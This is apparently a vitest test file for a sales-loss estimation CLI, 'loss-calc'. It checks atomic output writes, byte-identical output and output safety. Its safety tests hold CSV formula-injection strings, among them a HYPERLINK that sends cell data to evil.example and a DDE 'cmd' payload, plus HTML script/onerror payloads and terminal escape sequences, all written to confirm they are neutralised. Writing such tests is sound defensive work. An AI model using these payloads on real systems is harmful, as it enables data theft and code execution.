// Nothing lost, nothing half-written, same bytes every time, and output that cannot do harm —
// for `estimate`, through the built binary:
// - --out is written atomically: a failing run never truncates an existing output, a run killed
//   with SIGKILL at random moments leaves the old file or a complete new one; --out that is the
//   input under another name (hard link) is refused.
// - same input, options and seed → byte-identical json, ndjson, csv, tsv, text, table and html
//   (html differs only in its generated-at time; SOURCE_DATE_EPOCH fixes that too).
// - formula injection neutralised in CSV/TSV text cells; HTML escapes every input string.
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { claimSchema } from '../src/core/claim.js';
import { estimate } from '../src/core/estimate.js';
import { ingestFile } from '../src/ingest/index.js';
import { DEFAULTS, FORMATS } from '../src/options.js';
import { cell } from '../src/render/csv.js';
import { render } from '../src/render/index.js';
import { BIN, ROOT, runBin, tempDir } from './cli-helpers.js';

/** A small daily aggregate (90 days): every run here is cheap. */
const INPUT = path.join(ROOT, 'test', 'bad-inputs', 'ok-daily.csv');
const INCIDENT = '2025-03-15';
const BASE = ['estimate', INPUT, '--incident', INCIDENT, '--model', 'trend'];

describe('--out: atomic, never truncated, never the input', { timeout: 90_000 }, () => {
  it('a failing run leaves an existing output as it was, and no temp file', async () => {
    const dir = tempDir();
    const out = path.join(dir, 'out.json');
    fs.writeFileSync(out, 'old content\n');
    const bad = path.join(dir, 'bad.csv');
    fs.writeFileSync(bad, 'date,amount\n2025-01-01,lots\n');
    const r = await Promise.all([
      runBin(['estimate', bad, '--incident', INCIDENT, '--out', out]), // ingest fails
      runBin([...BASE, '--until', '2025-03-01', '--out', out]), // options fail
      runBin([...BASE, '--out', path.join(dir, 'out.json', 'x.json')]), // the write itself fails (parent is a file)
      runBin([...BASE, '--out', dir]), // the write itself fails (a directory)
    ]);
    expect(r.map((x) => x.stderr.match(/^loss-calc: ([A-Z_]+):/)?.[1])).toEqual(['BAD_NUMBERS', 'UNTIL_BEFORE_INCIDENT', 'WRITE_FAILED', 'WRITE_FAILED']);
    expect(r.map((x) => x.status)).toEqual([1, 2, 1, 1]);
    expect(fs.readFileSync(out, 'utf8')).toBe('old content\n');
    expect(fs.readdirSync(dir).sort()).toEqual(['bad.csv', 'out.json']);
    // a folder that cannot be made under one that exists (Node's own recursive mkdir spins there forever)
    if (fs.existsSync('/proc/self')) {
      const proc = await runBin([...BASE, '--out', '/proc/loss-calc-test/claim.json']);
      expect([proc.status, proc.stderr]).toEqual([1, expect.stringContaining('WRITE_FAILED: cannot write /proc/loss-calc-test/claim.json')]);
    }
  });

  it('a run killed with SIGKILL at any moment leaves the old output or a complete new one', async () => {
    const dir = tempDir();
    const t0 = Date.now();
    const full = await runBin([...BASE, '--format', 'json', '--out', path.join(dir, 'full.json')]);
    expect(full.status, full.stderr).toBe(0);
    const T = Date.now() - t0; // one whole run; kills land from its start to past its end
    const delays = [0.1, 0.3, 0.5, 0.65, 0.8, 0.9, 1.0, 1.2].map((f) => Math.round(f * T));
    const outs = delays.map((_, i) => path.join(dir, `out-${i}.json`));
    for (const o of outs) fs.writeFileSync(o, 'old content\n');
    const runs: Run[] = [];
    for (let i = 0; i < delays.length; i += 2) { // two at a time, so the timing stays close to T
      runs.push(...(await Promise.all([i, i + 1].map((k) => runBin([...BASE, '--format', 'json', '--out', outs[k]], {}, delays[k])))));
    }
    let replaced = 0;
    for (const o of outs) {
      const text = fs.readFileSync(o, 'utf8');
      if (text === 'old content\n') continue;
      expect(text).toBe(fs.readFileSync(path.join(dir, 'full.json'), 'utf8')); // complete, and the same bytes
      replaced++;
    }
    // the only other thing a kill may leave is writeAtomic's hidden temp file, never a half output
    for (const n of fs.readdirSync(dir)) expect(n).toMatch(/^(out-\d|full)\.json$|^\.out-\d\.json\.\d+\.\d+\.tmp$/);
    // every finished run replaced its file; a kill between the rename and the exit may have too
    expect(replaced).toBeGreaterThanOrEqual(runs.filter((r) => r.status === 0).length);
  });

  it('--out into a device node, a FIFO or a symlink writes through it and never replaces it', async () => {
    const dir = tempDir();
    const fifo = path.join(dir, 'pipe');
    const hasFifo = spawnSync('mkfifo', [fifo]).status === 0;
    const device = path.join(dir, 'null'); // a /dev/null twin: as root, a rename over /dev/null would break the machine
    const hasDevice = process.getuid?.() === 0 && spawnSync('mknod', [device, 'c', '1', '3']).status === 0;
    fs.writeFileSync(path.join(dir, 'real.json'), 'old\n');
    fs.symlinkSync('real.json', path.join(dir, 'link.json'));
    const reader = hasFifo ? new Promise<string>((done) => {
      const cat = spawn('cat', [fifo]);
      let text = '';
      cat.stdout.on('data', (d) => (text += d));
      cat.on('close', () => done(text));
    }) : Promise.resolve('');
    const runs = await Promise.all([
      runBin([...BASE, '--format', 'json', '--out', path.join(dir, 'link.json')]),
      hasFifo ? runBin([...BASE, '--format', 'csv', '--out', fifo]) : null,
      hasDevice ? runBin([...BASE, '--format', 'json', '--out', device]) : null,
    ]);
    for (const r of runs) if (r) expect(r.status, r.stderr).toBe(0);
    expect(fs.lstatSync(path.join(dir, 'link.json')).isSymbolicLink()).toBe(true);
    claimSchema.parse(JSON.parse(fs.readFileSync(path.join(dir, 'real.json'), 'utf8')));
    if (hasFifo) {
      expect(fs.lstatSync(fifo).isFIFO()).toBe(true);
      expect(await reader).toMatch(/^seller,incident_start,/);
    }
    if (hasDevice) expect(fs.lstatSync(device).isCharacterDevice()).toBe(true);
    expect(fs.readdirSync(dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
  });

  it('refuses --out that is a hard link to the input (same inode, another name)', async () => {
    const dir = tempDir();
    const input = path.join(dir, 'orders.csv');
    fs.copyFileSync(INPUT, input);
    const link = path.join(dir, 'claim.csv');
    fs.linkSync(input, link);
    const r = await runBin(['estimate', input, '--incident', INCIDENT, '--out', link]);
    expect(r.stderr).toMatch(/^loss-calc: OUT_IS_INPUT: /);
    expect(r.status).toBe(2);
    expect(fs.readFileSync(input)).toEqual(fs.readFileSync(INPUT));
  });
});

describe('determinism: same input, options and seed → the same bytes', { timeout: 90_000 }, () => {
  it('in every format, from two independent estimates', async () => {
    const claims = [];
    for (let k = 0; k < 2; k++) {
      const ing = await ingestFile(INPUT, { tz: DEFAULTS.tz });
      claims.push(estimate(ing, {
        seller: 'shop', incident: INCIDENT, exclude: [], holidays: 'KR', model: 'auto', level: 0.95, seed: 3, margin: 0.3,
        currency: 'KRW', tz: DEFAULTS.tz, baselineMaxDays: 365, minBaselineDays: 28, version: 'test',
      }));
    }
    for (const format of FORMATS) {
      for (const daily of [false, true]) {
        const opts = { lang: 'ko' as const, color: false, daily, bom: false, unicode: true, generatedAt: '2026-01-01T00:00:00Z' };
        expect(render(claims[1], format, opts), `${format}${daily ? ' --daily' : ''}`).toBe(render(claims[0], format, opts));
      }
    }
  });

  it('across processes: csv --daily and html (generated-at aside; SOURCE_DATE_EPOCH pins it)', async () => {
    const args = (f: string) => [...BASE, '--format', f, '--seed', '5', '--margin', '0.2', ...(f === 'csv' ? ['--daily'] : [])];
    const [csv1, csv2, html1, html2, html1again] = await Promise.all([
      runBin(args('csv')), runBin(args('csv')),
      runBin(args('html'), { SOURCE_DATE_EPOCH: '1700000000' }), runBin(args('html'), { SOURCE_DATE_EPOCH: '1800000000' }),
      runBin(args('html'), { SOURCE_DATE_EPOCH: '1700000000' }),
    ]);
    for (const r of [csv1, html1, html2]) expect(r.status, r.stderr).toBe(0);
    expect(csv2.stdout).toBe(csv1.stdout);
    expect(html1again.stdout).toBe(html1.stdout);
    // two different clocks: only the lines showing the generated-at time differ
    const a = html1.stdout.split('\n');
    const b = html2.stdout.split('\n');
    expect(b.length).toBe(a.length);
    const differing = a.map((l, i) => [l, b[i]]).filter(([x, y]) => x !== y);
    expect(differing.length).toBeGreaterThan(0);
    for (const [x, y] of differing) {
      expect(x).toContain('2023-11-14T22:13:20Z');
      expect(y).toContain('2027-01-15T08:00:00Z');
      expect(x.replace('2023-11-14T22:13:20Z', 'T')).toBe(y.replace('2027-01-15T08:00:00Z', 'T'));
    }
  });
});

describe('safe output', { timeout: 90_000 }, () => {
  const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(A1)', '-2+3'];

  it('CSV/TSV: seller ids a spreadsheet would run are text; numbers stay numbers', async () => {
    const runs = await Promise.all([
      ...INJECTIONS.map((s) => runBin([...BASE, '--format', 'csv', '--seller', s])),
      runBin([...BASE, '--format', 'tsv', '--seller', '=1+2\t@x']),
    ]);
    runs.forEach((r, i) => {
      expect(r.status, r.stderr).toBe(0);
      const [header, row] = r.stdout.trim().split('\n');
      const sep = i < INJECTIONS.length ? ',' : '\t';
      expect(header.split(sep)[0]).toBe('seller');
      const first = row.startsWith('"') ? row.slice(1) : row;
      expect(first.startsWith("'")).toBe(true); // neutralised
      const cells = row.slice(row.lastIndexOf(sep === ',' ? `,${INCIDENT},` : `\t${INCIDENT}\t`)).split(sep).slice(1);
      expect(cells[0]).toBe(INCIDENT); // the rest of the row is unharmed
      for (const n of cells.slice(6, 17).filter(Boolean)) expect(n).toMatch(/^-?\d+(\.\d+)?$/); // numbers, negative ones too, unquoted
    });
  });

  it('CSV/TSV cells: spaces before a formula do not hide it; numbers are never touched', () => {
    for (const sep of [',', '\t']) {
      expect(cell(' =1+2', sep)).toBe("' =1+2");
      expect(cell('\u3000@SUM(A1)', sep)).toBe("'\u3000@SUM(A1)");
      expect(cell('a =1', sep)).toBe('a =1');
      expect(cell(-2, sep)).toBe('-2');
    }
  });

  it('CSV: a seller id from a file name is neutralised too', async () => {
    const dir = tempDir();
    const named = path.join(dir, '@SUM(A1)=cmd.csv');
    fs.copyFileSync(INPUT, named);
    const r = await runBin(['estimate', named, '--incident', INCIDENT, '--model', 'trend', '--format', 'csv']);
    expect(r.stdout.split('\n')[1]).toMatch(/^'@SUM\(A1\)=cmd,2025-03-15,/);
  });

  it('HTML: a <script> seller id, markup in the file name and headers render as text', async () => {
    const dir = tempDir();
    const file = path.join(dir, '<img src=x onerror=alert(1)>.csv');
    const lines = fs.readFileSync(INPUT, 'utf8').split('\n');
    lines[0] = '<b onmouseover=alert(2)>Date</b>,orders,"Revenue <i>x</i>"';
    fs.writeFileSync(file, lines.join('\n'));
    const r = await runBin(['estimate', file, '--incident', INCIDENT, '--model', 'trend', '--format', 'html',
      '--columns', 'date=<b onmouseover=alert(2)>Date</b>,revenue=Revenue <i>x</i>', '--seller', '<script>alert("x")</script>']);
    expect(r.status, r.stderr).toBe(0);
    const html = r.stdout;
    expect(html).not.toMatch(/<script|<img|<b onmouseover|<i>|onerror=alert\(1\)>/i);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;.csv');
    expect(html).toContain('&lt;b onmouseover=alert(2)&gt;Date&lt;/b&gt;');
  });

  it('stderr: control characters from a file name are shown escaped, not sent to the terminal', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'x\u001b]0;pwned\u0007\u001b[2J\ny.csv');
    fs.writeFileSync(file, 'date,amount\n2025-01-01,lots\n');
    const r = await runBin(['estimate', file, '--incident', INCIDENT]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^loss-calc: BAD_NUMBERS: x\\x1b\]0;pwned\\x07\\x1b\[2J\\ny\.csv: /);
    expect(r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  });
});
